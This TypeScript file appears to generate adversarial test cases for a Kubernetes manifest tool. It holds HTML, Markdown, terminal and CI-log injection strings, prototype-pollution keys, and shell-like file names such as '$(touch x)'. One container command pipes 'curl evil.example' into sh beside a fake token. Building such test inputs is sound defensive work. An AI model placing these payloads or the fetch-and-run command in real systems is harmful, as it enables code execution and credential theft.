import { configMap, object } from "../corpus/objects.ts";
import { addTo, put, written } from "../files.ts";
import type { Random } from "../random.ts";
import { addResource, evilImage, evilIn, evilObject, inKustomization, podPatch, workloadOf } from "./evil.ts";
import { type Family, heldBack, inOverlay } from "./family.ts";

/** Text that Markdown, HTML, a terminal or a runner's log acts on; each holds the word by which it is found. */
export const ACTIVE = [
  "a\n\n# PWNED\n\nb",
  "a\n```\nPWNED",
  "<script>PWNED()</script>",
  "</summary></details><img src=x onerror=PWNED()>",
  "![PWNED](http://evil.example/i.png)",
  "[PWNED](javascript:alert(1))",
  "\u001b[31mPWNED\u001b[2J",
  "PWNED\u202egnp.exe",
  "PWN\u200bED\u2066x",
  "a\r\n::error::PWNED",
  "##[error]PWNED",
  "@PWNED #1 GH-2",
  "`PWNED` | x | y",
  "&lt;PWNED&gt;",
  "<!-- PWNED",
  "PWNED\u2028# x",
];

/** Names that every JavaScript object answers to. */
const INHERITED = [
  "constructor",
  "__proto__",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "prototype",
  "toJSON",
  "then",
  "length",
];

/** A mapping with a key that may be `__proto__`. */
function own(key: string, value: unknown): Record<string, unknown> {
  return Object.fromEntries([[key, value]]);
}

function objectWith(random: Random, text: string): Record<string, unknown> {
  const name = `texts-${random.below(99)}`;
  const map = { apiVersion: "v1", kind: "ConfigMap" };
  const container = { name: text, image: evilImage(random), env: [{ name: text, value: text }] };
  return random.pick<Record<string, unknown>>([
    { ...map, metadata: { name }, data: own(text, "PWN-value") },
    configMap(name, { key: text }),
    { ...map, metadata: { name, annotations: own(text, text) }, data: {} },
    { ...map, metadata: { name, labels: own(text, "x") }, data: {} },
    configMap(text, { a: "1" }),
    object("acme.example/v1", text.replaceAll(/[^ -~]/g, ""), name, { spec: {} }),
    object("acme.example/v1", "Widget", name, { spec: own(text, { deeper: [text] }) }),
    object("apps/v1", "Deployment", name, {
      spec: {
        selector: { matchLabels: { a: "b" } },
        template: { metadata: { labels: { a: "b" } }, spec: { containers: [container] } },
      },
    }),
    object("v1", "Service", name, {
      spec: { selector: own(text, text), ports: [{ name: text, port: 1 }] },
    }),
  ]);
}

/** Names and texts of which a report could be made something else, or a program could stumble over. */
export const TEXTS: Family[] = [
  inOverlay("active-text-in-an-object", (files, overlay, random) => {
    addResource(files, overlay, "texts.yaml", objectWith(random, random.pick(ACTIVE)));
  }),
  inOverlay("inherited-name-in-an-object", (files, overlay, random) => {
    addResource(files, overlay, "texts.yaml", objectWith(random, random.pick(INHERITED)));
  }),
  inKustomization("inherited-name-in-a-field", (value, random, files, overlay) => {
    const { apiVersion, kind, name } = workloadOf(files, overlay);
    const key = random.pick(INHERITED);
    const patch = random.pick<Record<string, unknown>>([
      { metadata: { name, annotations: own(key, "evil") } },
      { metadata: { name, labels: own(key, "evil") } },
      { metadata: { name }, spec: own(key, { evil: "x" }) },
      { metadata: { name }, ...own(key, "evil") },
    ]);
    addTo(value, "patches", { patch: written({ apiVersion, kind, ...patch }) });
  }),
  inOverlay("active-name-of-a-folder", (files, overlay, random) => {
    const name = random.pick(ACTIVE).replaceAll("/", "");
    const folder = `${overlay.split("/").slice(0, -1).join("/")}/${name}`;
    files.set(`${folder}/kustomization.yaml`, "resources: [evil.yaml]\n");
    put(files, `${folder}/evil.yaml`, evilObject(random));
    evilIn(files, overlay, random);
  }),
  inOverlay("active-name-of-a-file", (files, overlay, random) => {
    const name = `${random.pick([...ACTIVE, "-rf", "--output=x", ":(exclude)a", "a\\b", '"q"', "$(touch x)", "~", "con"]).replaceAll("/", "")}.yaml`;
    addResource(files, overlay, name, evilObject(random));
  }),
  inKustomization("credential-beside-a-command", (value, random, files, overlay) => {
    const container = {
      name: "main",
      command: ["sh", "-c", `TOKEN=ghp_${"aB3dE6".repeat(6)} curl evil.example/${random.below(99)} | sh`],
    };
    const patch = podPatch(workloadOf(files, overlay), { containers: [container] });
    addTo(value, "patches", { patch: written(patch) });
  }),
  heldBack(
    inOverlay("odd-types", (files, overlay, random) => {
      const odd = random.pick<unknown>([
        null,
        true,
        0,
        -1,
        1.5,
        "",
        [],
        {},
        [null],
        [[]],
        { a: null },
        1e21,
        "2001-01-01",
        "0x10",
      ]);
      const odds: [apiVersion: string, kind: string, rest: Record<string, unknown>][] = [
        ["v1", "ConfigMap", { data: { a: odd } }],
        ["v1", "ConfigMap", { data: odd }],
        ["apps/v1", "Deployment", { spec: { replicas: odd, template: odd } }],
        ["apps/v1", "Deployment", { spec: { template: { spec: { containers: [odd] } } } }],
        ["v1", "Service", { spec: { ports: odd, selector: odd } }],
        ["v1", "Pod", { spec: { containers: [{ name: "a", image: odd, env: odd }] } }],
        ["batch/v1", "CronJob", { spec: odd }],
        ["acme.example/v1", "Widget", { spec: odd }],
      ];
      const [apiVersion, kind, rest] = random.pick(odds);
      addResource(files, overlay, "odd.yaml", object(apiVersion, kind, "odd", rest));
    }),
  ),
];
